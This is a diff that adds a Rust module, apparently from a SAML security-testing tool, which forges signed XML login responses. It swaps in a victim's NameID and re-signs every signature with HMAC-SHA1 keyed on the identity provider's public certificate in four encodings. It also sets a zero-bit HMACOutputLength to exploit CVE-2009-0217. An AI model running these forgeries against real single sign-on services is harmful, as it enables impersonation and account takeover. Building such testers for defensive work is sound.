@@ -1,0 +1,154 @@
+//! A forged document with a message authentication code for a signature: the secret is what everybody has.
+
+use super::Attacker;
+use super::document::{Document, missing};
+use super::signature::Signature;
+use super::signed_info::every_signature;
+use crate::WireError;
+use crate::names::DSIG;
+use crate::tree::{Edits, Id};
+use aws_lc_rs::hmac;
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use serde::{Deserialize, Serialize};
+
+/// `hmac-sha1` of XML Signature.
+const HMAC_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";
+
+/// What a program may take for the secret when it was configured with a certificate.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum HmacSecret {
+    /// The certificate in base64, one line, without header.
+    Base64,
+    /// The octets of the certificate.
+    Der,
+    /// PEM with lines of 64 characters and a line break at the end.
+    Pem,
+    /// PEM without the line break at the end.
+    PemTrimmed,
+}
+
+impl HmacSecret {
+    /// All of them.
+    pub const ALL: [Self; 4] = [Self::Base64, Self::Der, Self::Pem, Self::PemTrimmed];
+
+    pub(super) fn sentence(self) -> &'static str {
+        match self {
+            Self::Base64 => {
+                "the NameID was edited, and the signature is an HMAC with the certificate in base64"
+            }
+            Self::Der => {
+                "the NameID was edited, and the signature is an HMAC with the octets of the certificate"
+            }
+            Self::Pem => {
+                "the NameID was edited, and the signature is an HMAC with the certificate as PEM"
+            }
+            Self::PemTrimmed => {
+                "the NameID was edited, and the signature is an HMAC with the certificate as PEM without its last line break"
+            }
+        }
+    }
+
+    fn octets(self, certificate: &[u8]) -> Vec<u8> {
+        let base64 = STANDARD.encode(certificate);
+        match self {
+            Self::Base64 => base64.into_bytes(),
+            Self::Der => certificate.to_vec(),
+            Self::Pem => (pem(&base64) + "\n").into_bytes(),
+            Self::PemTrimmed => pem(&base64).into_bytes(),
+        }
+    }
+}
+
+fn pem(base64: &str) -> String {
+    let lines: Vec<&str> = base64
+        .as_bytes()
+        .chunks(64)
+        .map(|line| std::str::from_utf8(line).expect("base64 is ASCII"))
+        .collect();
+    format!("-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----", lines.join("\n"))
+}
+
+/// The victim's name, and every signature an HMAC.
+pub(super) fn confused(
+    document: &Document<'_>,
+    attacker: &Attacker<'_>,
+    secret: HmacSecret,
+) -> Result<String, WireError> {
+    authenticated(document.forged(attacker)?, attacker, secret)
+}
+
+/// The document as it is, with an HMAC for every signature.
+pub(super) fn authenticated(
+    xml: String,
+    attacker: &Attacker<'_>,
+    secret: HmacSecret,
+) -> Result<String, WireError> {
+    let octets = secret.octets(attacker.idp_certificate);
+    let key = hmac::Key::new(hmac::HMAC_SHA1_FOR_LEGACY_USE_ONLY, &octets);
+    let prepared = every_signature(xml, |document, signature| method(document, signature, ""))?;
+    with_values(prepared, |signed| STANDARD.encode(hmac::sign(&key, signed)))
+}
+
+/// The victim's name, and every signature an HMAC of which no bit is compared (CVE-2009-0217).
+pub(super) fn truncated(
+    document: &Document<'_>,
+    attacker: &Attacker<'_>,
+) -> Result<String, WireError> {
+    of_no_bits(document.forged(attacker)?)
+}
+
+/// The document as it is, with an HMAC of no bits for every signature.
+pub(super) fn of_no_bits(xml: String) -> Result<String, WireError> {
+    let prepared = every_signature(xml, |document, signature| {
+        let name = document.tree.sibling_name(signature.signature, "HMACOutputLength");
+        method(document, signature, &format!("<{name}>0</{name}>"))
+    })?;
+    with_values(prepared, |_| String::new())
+}
+
+/// Digests and values of all signatures, one after the other: what signs the Response covers the assertion's.
+fn with_values(xml: String, value: impl Fn(&[u8]) -> String) -> Result<String, WireError> {
+    let count = Document::read(&xml)?.signed_elements()?.len();
+    (0..count).try_fold(xml, |xml, index| {
+        let xml = replaced(&xml, index, |document, signature| {
+            Ok((signature.digest_value, signature.digest(document)?))
+        })?;
+        replaced(&xml, index, |document, signature| {
+            Ok((signature.signature_value, value(&signature.signed_bytes(document)?)))
+        })
+    })
+}
+
+/// The document with another text in one element of a signature.
+fn replaced(
+    xml: &str,
+    index: usize,
+    text: impl Fn(&Document<'_>, &Signature) -> Result<(Id, String), WireError>,
+) -> Result<String, WireError> {
+    let document = Document::read(xml)?;
+    let signature = Signature::read(&document, document.signed_elements()?[index])?;
+    let (element, text) = text(&document, &signature)?;
+    let mut edits = Edits::default();
+    edits.replace(document.tree.content(element).ok_or_else(|| missing("text"))?, text);
+    Ok(edits.apply(xml))
+}
+
+/// The SignatureMethod of an HMAC.
+fn method(
+    document: &Document<'_>,
+    signature: &Signature,
+    parameter: &str,
+) -> Result<Edits, WireError> {
+    let tree = &document.tree;
+    let old = tree.child(signature.signed_info, DSIG, "SignatureMethod");
+    let old = old.ok_or_else(|| missing("SignatureMethod"))?;
+    let name = tree.name(old);
+    let mut edits = Edits::default();
+    edits.replace(
+        tree.range(old),
+        format!(r#"<{name} Algorithm="{HMAC_SHA1}">{parameter}</{name}>"#),
+    );
+    Ok(edits)
+}
